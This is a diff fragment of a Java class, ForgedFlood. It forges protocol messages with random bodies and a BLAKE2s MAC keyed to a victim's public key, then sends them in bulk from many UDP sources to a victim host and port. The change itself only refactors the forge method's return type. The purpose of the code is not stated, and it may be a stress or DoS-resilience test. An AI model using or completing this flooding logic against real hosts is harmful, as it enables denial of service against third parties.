@@ -45,7 +45,7 @@ public final class ForgedFlood {
     InetSocketAddress victim = new InetSocketAddress(arguments[1], Integer.parseInt(arguments[2]));
     ByteBuffer[] messages = new ByteBuffer[MESSAGE_COUNT];
     for (int i = 0; i < messages.length; i++) {
-      messages[i] = forge(key);
+      messages[i] = ByteBuffer.allocateDirect(MESSAGE_BYTES).put(forge(key));
     }
     DatagramChannel[] sources = new DatagramChannel[SOURCE_COUNT];
     for (int i = 0; i < sources.length; i++) {
@@ -66,7 +66,8 @@ public final class ForgedFlood {
     }
   }
 
-  private static ByteBuffer forge(PublicKey victim) {
+  /** One more of them. */
+  static byte[] forge(PublicKey victim) {
     byte[] message = new byte[MESSAGE_BYTES];
     RandomSource.secure().fill(message, 0, MAC1_OFFSET);
     ByteBuffer.wrap(message).order(ByteOrder.LITTLE_ENDIAN).putInt(1);
@@ -79,7 +80,7 @@ public final class ForgedFlood {
     blake.reset(Blake2s.MAC_BYTES, macKey, 0, macKey.length);
     blake.update(message, 0, MAC1_OFFSET);
     blake.finish(message, MAC1_OFFSET);
-    return ByteBuffer.allocateDirect(MESSAGE_BYTES).put(message);
+    return message;
   }
 
   /** The command line of the process, for the same JVM and classes as this one's. */
